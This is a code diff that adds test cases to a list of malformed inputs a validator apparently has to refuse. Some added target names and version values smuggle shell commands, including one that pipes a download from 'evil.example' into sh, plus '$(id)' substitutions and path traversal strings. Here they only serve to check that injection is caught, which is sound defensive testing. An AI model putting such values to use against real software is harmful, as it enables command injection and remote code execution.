@@ -163,6 +163,18 @@ export const refusals: readonly Refusal[] = [
   malformedStamp("without files", '{ "targets": { "types": {} } }'),
   malformedStamp("a list of files", '{ "targets": { "types": { "files": ["../victim"] } } }'),
   malformedStamp("full of numbers", '{ "targets": { "types": { "files": { "types/index.ts": 1 } } } }'),
+  ...["express; curl evil.example|sh #", "$(id)", "a b", "../types", "-x", "Types", "a\nb", ""].map((name) =>
+    malformedStamp(
+      `of a target ${JSON.stringify(name)}`,
+      JSON.stringify({ targets: { [name]: { files: {} } } }),
+    ),
+  ),
+  ...["48; id", "$(id)", "48 -o /", ""].map((minVersion) =>
+    malformedStamp(
+      `for releases from ${JSON.stringify(minVersion)} on`,
+      JSON.stringify({ targets: { types: { files: {}, minVersion } } }),
+    ),
+  ),
   {
     name: "targets of another range that would stay",
     given: generated,
